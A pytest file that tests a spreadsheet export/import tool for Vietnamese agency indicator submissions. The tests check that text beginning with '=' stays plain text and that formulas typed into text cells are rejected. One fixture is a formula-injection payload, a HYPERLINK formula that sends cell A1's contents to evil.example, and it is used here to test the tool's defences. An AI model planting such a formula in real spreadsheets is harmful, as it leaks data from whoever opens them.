"""No formula crosses the boundary: texts go out as texts whatever they start with, the workbook
asks for no recalculation, and a formula typed in a text field comes back refused at its cell;
in a number field its computed value is taken and reported."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from workbook_files import Filled, make, with_cached_value

FILE = "submissions/2023/so-gddt.yaml"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Báo cáo năm 2022")'
TEXTS = {
    "source": HYPERLINK,
    "evidence": "+84 28 3829 1234",
    "note": "=1+1",
}
SUBMISSION = f"""\
agency: so-gddt
cycle: "2023"
prepared_by: "@Phòng Giáo dục"
indicators:
  1.1.1.a:
    value: 98.9
    unit: percent
    year: 2022
    source: '{HYPERLINK}'
    evidence: "{TEXTS["evidence"]}"
    note: "=1+1"
  1.3.3.a:
    value: trung bình
    year: 2023
    note: "#N/A"
  2.1.1.a:
    value: có
    year: 2022
    note: "-5 so với năm trước"
"""


@pytest.fixture(autouse=True)
def in_the_inbox(tmp_path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)


def parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {n: archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml")}


def test_texts_that_look_like_formulas_go_out_as_texts_and_come_back_unchanged(
    hcmlc, repo, tmp_path
) -> None:
    repo.write(FILE, SUBMISSION)
    before = (repo.root / FILE).read_bytes()
    made = make(hcmlc, repo.root, "so-gddt", tmp_path / "so-gddt.xlsx")
    xml = parts(made)
    assert '<calcPr calcId="124519" fullCalcOnLoad="0"/>' in xml["xl/workbook.xml"]
    formulas = [f for part in xml.values() for f in re.findall(r"<f>(.*?)</f>", part)]
    assert formulas and all(f.startswith("IF(LEN(SUBSTITUTE(") for f in formulas)  # word counts
    book = Filled(made)
    sheet = book.sheet("indicators")
    for column, text in TEXTS.items():
        cell = sheet[book.ref("indicators", "1.1.1.a", column)]
        assert (cell.value, cell.data_type) == (text, "s")
    assert sheet[book.ref("indicators", "1.3.3.a", "note")].value == "#N/A"
    assert sheet[book.ref("indicators", "2.1.1.a", "note")].value == "-5 so với năm trước"
    code, output, _ = hcmlc("import", "--root", str(repo.root), "so-gddt.xlsx")
    assert (code, output) == (
        0,
        "so-gddt.xlsx: nothing to import: no cell was changed since it was made\n",
    )
    assert (repo.root / FILE).read_bytes() == before


def test_a_formula_in_a_text_field_is_refused_at_its_cell(hcmlc, repo, tmp_path) -> None:
    made = make(hcmlc, repo.root, "so-gddt", tmp_path / "so-gddt.xlsx")
    book = Filled(made)
    book.set("indicators", "1.1.1.a", "value", 98.9)
    book.set("indicators", "1.1.1.a", "year", 2022)
    source = book.set("indicators", "1.1.1.a", "source", HYPERLINK)
    note = book.set("indicators", "1.1.1.a", "note", "=1+1")
    book.save(made)
    with_cached_value(made, "Chỉ số", source, "Báo cáo năm 2022")
    with_cached_value(made, "Chỉ số", note, "2")
    code, output, _ = hcmlc("import", "--root", str(repo.root), "so-gddt.xlsx")
    hint = (
        "    hint: a text field keeps what is typed, never what a formula computes: type the "
        "text itself (a text that starts with = goes in after an apostrophe: '=)"
    )
    assert (code, output.splitlines()[1:5]) == (
        1,
        [
            f"so-gddt.xlsx:Chỉ số!{source}: error: the cell holds the formula "
            '`=HYPERLINK("http://evil.example/?"&A1,"Báo cáo năm 2022")`: type the text, not a '
            "formula [HCMLC-E075]",
            hint,
            f"so-gddt.xlsx:Chỉ số!{note}: error: the cell holds the formula `=1+1`: type the "
            "text, not a formula [HCMLC-E075]",
            hint,
        ],
    )
    assert not (repo.root / FILE).exists()


def test_in_vietnamese_too(hcmlc, repo, tmp_path) -> None:
    made = make(hcmlc, repo.root, "so-gddt", tmp_path / "so-gddt.xlsx")
    book = Filled(made)
    note = book.set("indicators", "1.1.1.a", "note", "=1+1")
    book.save(made)
    with_cached_value(made, "Chỉ số", note, "2")
    code, output, _ = hcmlc("--lang", "vi", "import", "--root", str(repo.root), "so-gddt.xlsx")
    assert code == 1
    assert (
        f"so-gddt.xlsx:Chỉ số!{note}: lỗi: ô chứa công thức `=1+1`: hãy gõ văn bản, không "
        "phải công thức [HCMLC-E075]"
    ) in output.splitlines()


def test_a_formula_in_a_number_field_gives_its_computed_value_and_says_so(
    hcmlc, repo, tmp_path
) -> None:
    made = make(hcmlc, repo.root, "so-gddt", tmp_path / "so-gddt.xlsx")
    book = Filled(made)
    value = book.set("indicators", "1.1.1.a", "value", "=98+0.9")
    book.set("indicators", "1.1.1.a", "year", 2022)
    book.save(made)
    with_cached_value(made, "Chỉ số", value, "98.9")
    code, output, _ = hcmlc("import", "--root", str(repo.root), "so-gddt.xlsx")
    assert code == 0, output
    assert (
        f"    note: 1 cell with a formula (Chỉ số!{value}): the value it computed was taken"
    ) in output.splitlines()
    assert "    value: 98.9\n" in (repo.root / FILE).read_text(encoding="utf-8")
